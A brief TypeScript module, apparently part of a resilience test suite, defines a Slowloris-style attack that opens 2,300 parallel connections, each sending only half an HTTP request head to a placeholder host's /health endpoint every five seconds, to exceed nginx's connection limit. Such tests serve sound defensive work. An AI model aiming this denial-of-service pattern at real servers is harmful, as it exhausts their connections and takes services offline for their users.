import { type Attack, attempts } from './attack.ts';

/** More than nginx has. */
const CONNECTIONS = 2_300;

/** Class 4, one layer below: connections that send half of a request's head, as many as get in. */
export const halfHeads: Attack = {
  name: 'thousands of connections with half a request',
  async run(attacker) {
    await attempts(attacker, { parallel: CONNECTIONS, everyMs: 5_000 }, () =>
      attacker.client.hold('GET /health HTTP/1.1\r\nHost: skillgap.example\r\n'),
    );
  },
};
